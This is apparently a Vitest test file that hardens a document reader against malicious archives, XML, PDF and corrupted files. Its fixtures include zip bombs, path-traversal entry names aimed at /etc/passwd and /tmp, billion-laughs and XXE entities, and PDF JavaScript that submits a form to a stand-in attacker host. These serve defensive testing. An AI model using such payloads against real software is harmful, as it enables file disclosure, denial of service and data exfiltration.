import { isErrorCode } from '@parley/contract/errors'
import fc from 'fast-check'
import { zipSync } from 'fflate'
import { describe, expect, it } from 'vitest'
import { bounds } from './bounds'
import { nodePdf } from './node-pdf'
import { readFile } from './read-file'
import { docxOf, docxParagraph, docxTable, utf8, zipOf } from './testing/files'
import { epub, odp, ods, odt, pptx, xlsx } from './testing/office-files'
import { pdfOf, pdfOfObjects, prose } from './testing/pdf-bytes'
import { seeded } from './testing/seeded'

const pdf = nodePdf()
const read = (name: string, bytes: Uint8Array) => readFile({ name, bytes }, { pdf })

const isDeep = process.env.TEST_DEPTH === 'deep'

describe('archives', () => {
  it('refuses an entry that unpacks to far more than a document, by what is unpacked', async () => {
    const bomb = zipOf({ 'word/document.xml': new Uint8Array(20_000_000).fill(0x20) })
    await expect(read('a.docx', bomb)).rejects.toMatchObject({ code: 'source.bomb' })
  })

  it('refuses one that says so itself without unpacking it, and one whose header lies', async () => {
    const file = docxOf(docxParagraph('x'))
    const view = new DataView(file.buffer)
    const sizes: number[] = []
    for (let at = 0; at < file.length - 4; at++) if (view.getUint32(at, true) === 0x02014b50) sizes.push(at + 24)
    for (const at of sizes) view.setUint32(at, 0xfffffff0, true)
    await expect(read('a.docx', file)).rejects.toMatchObject({ code: 'source.bomb' })
    for (const at of sizes) view.setUint32(at, 1, true)
    expect((await read('a.docx', file)).blocks).toEqual([{ kind: 'paragraph', text: 'x' }])
  })

  it('refuses many entries over the same bytes once they are too many together', async () => {
    const row = utf8(`<row><c><v>1</v></c>${' '.repeat(20_000)}</row>`)
    const sheet = new Uint8Array(row.length * 400)
    for (let at = 0; at < sheet.length; at += row.length) sheet.set(row, at)
    const others = Array.from({ length: 40 }, (_, n) => [`xl/worksheets/sheet${n + 2}.xml`, ''])
    const file = zipOf({ 'xl/worksheets/sheet1.xml': sheet, ...Object.fromEntries(others) })
    const view = new DataView(file.buffer)
    const listed: number[] = []
    for (let at = 0; at < file.length - 4; at++) if (view.getUint32(at, true) === 0x02014b50) listed.push(at)
    const [first = 0] = listed
    for (const at of listed)
      for (const field of [10, 20, 24, 42]) view.setUint32(at + field, view.getUint32(first + field, true), true)
    await expect(read('a.xlsx', file)).rejects.toMatchObject({ code: 'source.bomb' })
  })

  it('opens no archive in an archive', async () => {
    let inner = zipOf({ 'word/document.xml': '<w:document/>' })
    for (let depth = 0; depth < 10; depth++) inner = zipOf({ 'a.docx': inner })
    await expect(read('a.docx', inner)).rejects.toMatchObject({ code: 'source.type' })
  })

  it('takes no name in an archive for a path, nor one of a file', async () => {
    const file = zipOf({
      'word/document.xml': `<w:document><w:body>${docxParagraph('fine')}</w:body></w:document>`,
      '../../../../tmp/evil': 'x',
      __proto__: 'x',
    })
    expect((await read('../../etc/passwd\0.docx', file)).blocks).toEqual([{ kind: 'paragraph', text: 'fine' }])
    expect(Object.hasOwn(Object.prototype, 'name')).toBe(false)
  })

  it('says that an encrypted one has a password', async () => {
    const file = docxOf(docxParagraph('x'))
    const view = new DataView(file.buffer)
    for (let at = 0; at < file.length - 4; at++)
      if (view.getUint32(at, true) === 0x02014b50) view.setUint16(at + 8, view.getUint16(at + 8, true) | 1, true)
    await expect(read('a.docx', file)).rejects.toMatchObject({ code: 'source.protected' })
  })
})

describe('XML', () => {
  it('expands no entities that a document declares, and loads none', async () => {
    const lol = Array.from({ length: 10 }, (_, n) => `<!ENTITY l${n + 1} "${`&l${n};`.repeat(10)}">`).join('')
    const xml = `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY l0 "lol">${lol}<!ENTITY x SYSTEM "file:///etc/passwd">]>`
    const file = zipOf({
      'word/document.xml': `${xml}<w:document><w:body>${docxParagraph('&l10;&x;ok')}</w:body></w:document>`,
    })
    const { blocks } = await read('a.docx', file)
    expect(blocks).toEqual([{ kind: 'paragraph', text: '&l10;&x;ok' }])
  })

  it('refuses elements that are nested without end', async () => {
    const deep = docxOf('<w:p>'.repeat(200_000))
    await expect(read('a.docx', deep)).rejects.toMatchObject({ code: 'source.damaged' })
    await expect(read('a.html', utf8('<div>'.repeat(2_000_000)))).rejects.toMatchObject({ code: 'source.damaged' })
    const rtf = await read('a.rtf', utf8(`{\\rtf1 text\\par ${'{'.repeat(1_000_000)}`))
    expect(rtf.notices).toContain('damaged')
  })

  it('leaves out what is beyond the size of a document, and says so', async () => {
    const { blocks, notices } = await read('a.txt', new Uint8Array(30_000_000).fill(0x61))
    expect(notices).toEqual(['first-text'])
    const length = blocks.reduce((sum, block) => sum + ('text' in block ? block.text.length : 0), 0)
    expect(length).toBeGreaterThan(19_000_000)
    expect(length).toBeLessThanOrEqual(bounds.maxTextLength)
    const cells = await read('a.csv', utf8('a,b,c\n'.repeat(1_000_000)))
    expect(cells.notices).toEqual(['first-text'])
  })
})

describe('PDF', () => {
  it('runs no scripts, follows no addresses and opens nothing', async () => {
    const catalog =
      '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("https://evil.example"\\)) >> /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (while\\(true\\){}) >>] >> >>'
    const { blocks } = await read('a.pdf', pdfOf([prose(['harmless'])], { catalog }))
    expect(blocks).toEqual([{ kind: 'paragraph', text: 'harmless', page: 1 }])
  })

  it('reads a page of 100,000 objects in bounds', async () => {
    const content = Array.from(
      { length: 100_000 },
      (_, n) => `BT /F1 8 Tf ${n % 500} ${n % 800} Td (w${n}) Tj ET`,
    ).join('\n')
    const file = pdfOfObjects([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Count 1 /Kids [4 0 R] /MediaBox [0 0 595 842] /Resources << /Font << /F1 3 0 R >> >> >>',
      '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
      '<< /Type /Page /Parent 2 0 R /Contents 5 0 R >>',
      `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    ])
    const { blocks } = await read('a.pdf', file)
    const text = blocks.map((block) => (block.kind === 'table' ? block.rows.flat().join(' ') : block.text)).join(' ')
    expect(text).toContain('w99999')
  })

  it('ends in a circle of pages, and a count of pages that is a lie', async () => {
    const circle = pdfOfObjects([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Count 1000000 /Kids [2 0 R 2 0 R] >>',
    ])
    await expect(read('a.pdf', circle)).rejects.toMatchObject({ code: expect.stringMatching(/^source\./) })
  })

  it('says that a password is missing', async () => {
    const file = pdfOfObjects([
      '<< /Type /Catalog /Pages 2 0 R >>',
      '<< /Type /Pages /Count 0 /Kids [] >>',
      `<< /Filter /Standard /V 1 /R 2 /O (${'o'.repeat(32)}) /U (${'u'.repeat(32)}) /P -4 >>`,
    ])
    const text = new TextDecoder('latin1')
      .decode(file)
      .replace('/Root 1 0 R', '/Root 1 0 R /Encrypt 3 0 R /ID [(a) (a)]')
    await expect(read('a.pdf', utf8(text))).rejects.toMatchObject({ code: 'source.protected' })
  })
})

const samples: Record<string, Uint8Array> = {
  'a.pdf': pdfOf([prose(['one of the first page', 'and more']), prose(['two'])]),
  'a.docx': docxOf(
    docxParagraph('Title', 'Ttulo1') +
      docxParagraph('text') +
      docxTable([
        ['a', 'b'],
        ['1', '2'],
      ]),
  ),
  'a.pptx': pptx(),
  'a.xlsx': xlsx(),
  'a.odt': odt(),
  'a.odp': odp(),
  'a.ods': ods(),
  'a.epub': epub(),
  'a.rtf': utf8(
    "{\\rtf1\\ansi{\\fonttbl{\\f0 A;}}\\pard A\\u231?\\'e3o {\\b x}{\\footnote n}\\par\\trowd a\\cell b\\cell\\row}",
  ),
  'a.tex': utf8(
    '\\begin{document}\\section{A}b\\footnote{c} \\begin{tabular}{ll}a & b\\\\c & d\\end{tabular}\\item x\\end{document}',
  ),
  'a.html': utf8('<title>a</title><h1>b</h1><table><tr><td>c<td><p>d</table><ul><li>e</ul><pre>f</pre>'),
  'a.md': utf8('# a\n\n- b\n\n|c|d|\n|-|-|\n|e|f|\n\n```\ng\n```\n[^1]: h'),
  'a.csv': utf8('a,b\n"c ""d""",e\n'),
  'a.eml': utf8(
    'Subject: =?utf-8?B?w6M=?=\nContent-Type: multipart/mixed; boundary=x\n\n--x\nContent-Type: text/html\n\n<p>a\n--x--',
  ),
  'a.json': utf8('{"a":[1,2,{"b":null}]}'),
  'a.txt': utf8('Olá,\n\nmundo.'),
}

/** What users and attackers send: cut off, with bytes changed, taken out, doubled, or stitched to another place. */
function mutated(bytes: Uint8Array, random: (below: number) => number): Uint8Array {
  const copy = bytes.slice()
  const kind = random(5)
  if (kind === 0) return copy.slice(0, random(copy.length))
  if (kind === 1) {
    const [from, length] = [random(copy.length), random(40)]
    return new Uint8Array([...copy.slice(0, from), ...copy.slice(from + length)])
  }
  if (kind === 2) {
    const [from, length, times] = [random(copy.length), 1 + random(60), 1 + random(50)]
    const piece = Array.from(copy.slice(from, from + length))
    return new Uint8Array([
      ...copy.slice(0, from),
      ...Array.from({ length: times }, () => piece).flat(),
      ...copy.slice(from),
    ])
  }
  if (kind === 3) copy.copyWithin(random(copy.length), random(copy.length), random(copy.length))
  else for (let n = 1 + random(12); n > 0; n--) copy[random(copy.length)] = random(256)
  return copy
}

describe('damaged files', () => {
  const counts = { deep: 5_000, pdf: 60, other: 200 }
  it.each(Object.entries(samples))('gives a text or a clear error for every mutation of %s', async (name, whole) => {
    const { seed = 1 } = fc.readConfigureGlobal()
    const random = seeded(seed)
    const count = isDeep ? counts.deep : name === 'a.pdf' ? counts.pdf : counts.other
    expect((await read(name, whole)).blocks.length).toBeGreaterThan(0)
    for (let n = 0; n < count; n++) {
      const bytes = mutated(whole, random)
      try {
        const { blocks, notices } = await read(name, bytes)
        expect(blocks.length > 0 || notices.length > 0).toBe(true)
      } catch (error) {
        const code = error instanceof Error && 'code' in error ? String(error.code) : `no code: ${error}`
        expect(isErrorCode(code) && code.startsWith('source.'), `RUN_SEED=${seed}, mutation ${n}: ${code}`).toBe(true)
      }
    }
  })

  it('reads what is whole of an archive that was cut off', async () => {
    const body = Array.from({ length: 3_000 }, (_, n) => docxParagraph(`paragraph ${n} ${Math.sin(n)}`)).join('')
    const file = zipSync({ 'word/document.xml': utf8(`<w:document><w:body>${body}</w:body></w:document>`) })
    const { blocks, notices } = await read('a.docx', file.slice(0, file.length / 2))
    expect(notices).toEqual(['damaged'])
    expect(blocks.length).toBeGreaterThan(500)
  })
})

describe('cancelling', () => {
  it('ends reading in the middle', async () => {
    const stop = new AbortController()
    const pages = Array.from({ length: 60 }, (_, n) => prose([`page ${n}`]))
    const reading = readFile(
      { name: 'a.pdf', bytes: pdfOf(pages) },
      { pdf, signal: stop.signal, onProgress: ({ done }) => done === 5 && stop.abort() },
    )
    await expect(reading).rejects.toMatchObject({ code: 'source.cancelled' })
  })
})
